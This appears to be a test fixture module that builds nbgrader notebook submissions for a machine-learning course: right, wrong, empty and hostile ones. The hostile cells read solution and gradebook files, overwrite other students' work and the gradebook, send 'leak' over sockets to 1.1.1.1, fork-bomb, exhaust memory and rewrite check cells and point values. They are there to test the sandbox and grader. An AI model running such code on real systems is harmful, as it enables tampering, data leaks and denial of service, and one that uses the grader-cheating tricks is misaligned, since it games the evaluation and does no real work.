"""Submissions for the grading tests: right, wrong, empty and hostile notebooks, built from the repo.

A submission is the released exercise (the same as ``exercises/``) with some answer cells filled in
(from ``solutions/``, or with a typical wrong answer) and, for the hostile ones, cells that try to
break out of the sandbox or cheat the grader.
"""

from __future__ import annotations

import copy
import json
from pathlib import Path

import nbformat

ROOT = Path(__file__).resolve().parents[1]
LESSONS = [p.name[:2] for p in sorted((ROOT / "solutions").glob("[0-9][0-9]_*.ipynb"))]

# One typical wrong answer per lesson, replacing one answer cell, and a piece of the hint its check
# gives. The other answers are right, so nbgrader must score the notebook partially.
WRONG = {
    "00": (
        "answer-00-1",
        "model = keras.Sequential([keras.Input(shape=(32, 32, 3)), keras.layers.Flatten(),\n"
        "                          keras.layers.Dense(10, activation='softmax')])",
        "softmax",
    ),
    "01": (
        "answer-01-1",
        'workflow = ["pick a base", "add a new head", "train the head", "freeze the base", "fine-tune", "evaluate"]',
        "freeze first",
    ),
    "02": (
        "answer-02-1",
        "settings = {1: 'inductive', 2: 'inductive', 3: 'inductive', 4: 'unsupervised', 5: 'transductive',"
        " 6: 'inductive'}",
        "scenario 2 is not inductive",
    ),
    "03": (
        "answer-03-2",
        "model.compile(optimizer=keras.optimizers.Adam(learning_rate=1e-3),\n"
        "              loss=keras.losses.SparseCategoricalCrossentropy(), metrics=['accuracy'])",
        "from_logits",
    ),
    "04": (
        "answer-04-1",
        "def unfreeze_top(base, n):\n"
        "    base.trainable = True\n"
        "    weighted = [l for l in base.layers if l.weights and not isinstance(l, keras.layers.BatchNormalization)]\n"
        "    top = weighted[-n:]\n"
        "    for layer in base.layers:\n"
        "        layer.trainable = layer in top\n"
        "    return base",
        "a_list[-0:]",
    ),
    "05": (
        "answer-05-4",
        "def pick_best(scores):\n"
        "    chosen = max(scores, key=lambda name: scores[name]['test'])\n"
        "    return chosen, scores[chosen]['test']",
        "test",
    ),
    "06": (
        "answer-06-2",
        "def coral_loss(source_features, target_features):\n"
        "    gap = np.cov(np.asarray(source_features, 'float64'), rowvar=False) - "
        "np.cov(np.asarray(target_features, 'float64'), rowvar=False)\n"
        "    return float(np.sum(gap ** 2))",
        "4·d²",
    ),
    "07": (
        "answer-07-2",
        "def summarise(rows):\n"
        "    groups = {}\n"
        "    for row in rows:\n"
        "        groups.setdefault((row['recipe'], row['fraction']), []).append(row['accuracy'])\n"
        "    return {k: (float(np.std(v, ddof=1)), float(np.mean(v))) for k, v in groups.items()}",
        "(std, mean)",
    ),
    "08": (
        "answer-08-1",
        "department = {'Sandal': 1, 'Sneaker': 1, 'Ankle boot': 1, 'Bag': 1}\n"
        "group_of_class = np.array([department.get(name, 0) for name in data.class_names])",
        "Bag",
    ),
    "09": (
        "answer-09-2",
        "def cosine_similarity(a, b):\n"
        "    a, b = np.asarray(a, dtype='float64'), np.asarray(b, dtype='float64')\n"
        "    return float(a @ b / np.linalg.norm(a))",
        "one vector's length only",
    ),
    "10": (
        "answer-10-1",
        "train_ds = data.train.cache().shuffle(data.sizes['train'], seed=0).batch(budget.batch_size)\n"
        "val_ds = train_ds",
        "same dataset",
    ),
}


def notebook_path(kind: str, lesson: str) -> Path:
    (path,) = (ROOT / kind).glob(f"{lesson}_*.ipynb")
    return path


def read(kind: str, lesson: str):
    return nbformat.read(str(notebook_path(kind, lesson)), as_version=4)


def answers(lesson: str) -> dict[str, str]:
    """The solution's answer cells, by grade id."""
    return {
        cell.metadata["nbgrader"]["grade_id"]: cell.source
        for cell in read("solutions", lesson).cells
        if cell.metadata.get("nbgrader", {}).get("solution")
    }


def cell(nb, grade_id: str):
    return next(
        c
        for c in nb.cells
        if c.get("id") == grade_id or c.metadata.get("nbgrader", {}).get("grade_id") == grade_id
    )


def submission(lesson: str, *, answered=(), replace: dict | None = None, release=None):
    """The release with the solution's answers to ``answered`` (grade ids; ``"all"``) and ``replace``."""
    nb = copy.deepcopy(release if release is not None else read("exercises", lesson))
    solution = answers(lesson)
    wanted = solution if answered == "all" else {k: solution[k] for k in answered}
    for grade_id, source in {**wanted, **(replace or {})}.items():
        cell(nb, grade_id).source = source
    return nb


def insert_after(nb, grade_id: str, source: str, *, name: str):
    """A cell the student added after ``grade_id``."""
    index = next(i for i, c in enumerate(nb.cells) if c.get("id") == grade_id) + 1
    new = nbformat.v4.new_code_cell(source)
    new.id = name
    nb.cells.insert(index, new)
    return nb


def write(nb, path: Path) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, str(path))
    return path


def correct(lesson: str):
    return submission(lesson, answered="all")


def wrong(lesson: str):
    grade_id, source, _hint = WRONG[lesson]
    return submission(lesson, answered="all", replace={grade_id: source})


# =========================================================================== a class of lesson 00
CORRECT_00 = {
    "answer-00-1": "model = keras.Sequential([keras.Input(shape=(32, 32, 3)), keras.layers.Flatten(), "
    "keras.layers.Dense(10)])",
    "answer-00-2": "def count_trainable_params(model):\n"
    "    return sum(int(np.prod(w.shape)) for w in model.trainable_weights)\n\nimport numpy as np",
    "answer-00-3": "def freeze(model):\n    for layer in model.layers:\n        layer.trainable = False\n"
    "    model.trainable = False\n    return model",
}


def hostile_class(folder: Path, *, secrets: dict[str, str], port: int) -> dict[str, dict]:
    """Write nbgrader's ``submitted/<student>/00/00_welcome.ipynb`` for 14 students into ``folder``.

    ``secrets`` names host files the hostile notebooks try to read or write (the solution, the
    gradebook, another student's submission); ``port`` is a TCP port the grader's machine listens on.
    Returns, per student, the expected score and what to look for.
    """
    name = notebook_path("exercises", "00").name
    paths = {k: json.dumps(v) for k, v in secrets.items()}
    students = {}

    def add(student, nb, expected, **facts):
        write(nb, folder / student / "00" / name)
        students[student] = {"score": expected, **facts}

    add("correct_a", correct("00"), 3)
    add("correct_b", submission("00", replace=CORRECT_00), 3)
    add("wrong", wrong("00"), 2, hint="softmax")
    add("empty", read("exercises", "00"), 0)
    # Reads the solution (to copy its answers): the file does not exist in the sandbox.
    nb = read("exercises", "00")
    insert_after(
        nb,
        "cell-02",
        "import json, pathlib\n"
        f"for path in [{paths['solution']}, {paths['repo_solution']}, {paths['gradebook']}]:\n"
        "    solution = json.loads(pathlib.Path(path).read_text())\n"
        "    for c in solution['cells']:\n"
        "        if c['metadata'].get('nbgrader', {}).get('solution'):\n"
        "            exec(''.join(c['source']))",
        name="steal",
    )
    add("read_solution", nb, 0, note="FileNotFoundError")
    # Writes outside its folder: another student's submission, the gradebook, the repository.
    nb = correct("00")
    insert_after(
        nb,
        "cell-02",
        "import pathlib\n"
        f"for path in [{paths['other_submission']}, {paths['repo_file']}, '/tmp/escaped.txt', '../../escaped.txt']:\n"
        "    try:\n"
        "        pathlib.Path(path).write_text('overwritten by a student')\n"
        "        print('wrote', path)\n"
        "    except OSError as error:\n"
        "        print('blocked', path, error)\n"
        f"pathlib.Path({paths['gradebook']}).write_text('all full marks')",
        name="vandal",
    )
    add("write_outside", nb, 3, note="raised")
    # Opens sockets: to the grader's machine (loopback and its address) and to the internet.
    nb = correct("00")
    insert_after(
        nb,
        "cell-02",
        "import socket\n"
        f"for host in ['127.0.0.1', {json.dumps(secrets['host_ip'])}, '1.1.1.1']:\n"
        "    try:\n"
        f"        socket.create_connection((host, {port}), timeout=3).sendall(b'leak')\n"
        "        print('connected to', host)\n"
        "    except OSError as error:\n"
        "        print('blocked', host, error)\n"
        f"socket.create_connection(('1.1.1.1', {port}), timeout=3)",
        name="phone_home",
    )
    add("socket", nb, 3, note="OSError")
    # Never stops: interrupted at the time limit per cell; the notebook goes on without its answer.
    add(
        "loop_forever",
        submission("00", answered=["answer-00-1"], replace={"answer-00-2": "while True:\n    pass"}),
        1,
        note="CellTimeoutError",
    )
    # Allocates until killed: the kernel dies at the memory limit, the checks after it are not run.
    add(
        "allocate",
        submission(
            "00",
            answered=["answer-00-1"],
            replace={"answer-00-2": "hog = []\nwhile True:\n    hog.append(b'x' * 2**26)"},
        ),
        1,
        error="out of memory",
    )
    # Prints 100 MB: kept to 1 MB, graded normally.
    nb = correct("00")
    insert_after(nb, "answer-00-1", "print('x' * 100_000_000)", name="flood")
    add("print_100mb", nb, 3, note="dropped")
    # Forks until refused, and leaves children sleeping; they must not outlive the grading.
    nb = correct("00")
    insert_after(
        nb,
        "cell-02",
        "import os, signal, time\n"
        "children = []\n"
        "try:\n"
        "    for _ in range(5000):\n"
        "        pid = os.fork()\n"
        "        if pid == 0:\n"
        "            time.sleep(3600)\n"
        "            os._exit(0)\n"
        "        children.append(pid)\n"
        "finally:  # keeps 8 (they must not outlive the grading), frees the rest for the answers' threads\n"
        "    for pid in children[8:]:\n"
        "        os.kill(pid, signal.SIGKILL)\n"
        "        os.waitpid(pid, 0)",
        name="fork",
    )
    add("fork", nb, 3, note="BlockingIOError")
    (folder / "not_json" / "00").mkdir(parents=True)
    (folder / "not_json" / "00" / name).write_text('{"cells": [ this is not JSON', encoding="utf-8")
    students["not_json"] = {"score": 0, "error": "not valid JSON"}
    # Deletes its check cells (with a wrong answer): nbgrader puts them back and they run.
    nb = wrong("00")
    nb.cells = [c for c in nb.cells if not c.metadata.get("nbgrader", {}).get("grade")]
    add("delete_checks", nb, 2, note="was deleted", hint="softmax")
    # Gives itself 100 points per check and rewrites a check cell to print a pass.
    nb = submission("00", answered=["answer-00-1"])
    for c in nb.cells:
        if c.metadata.get("nbgrader", {}).get("grade"):
            c.metadata["nbgrader"]["points"] = 100
    cell(
        nb, "check-00-2"
    ).source = 'print("✅ 00.2 count_trainable_params counts exactly the trainable numbers")'
    add("change_points", nb, 1, note="points changed")
    return students
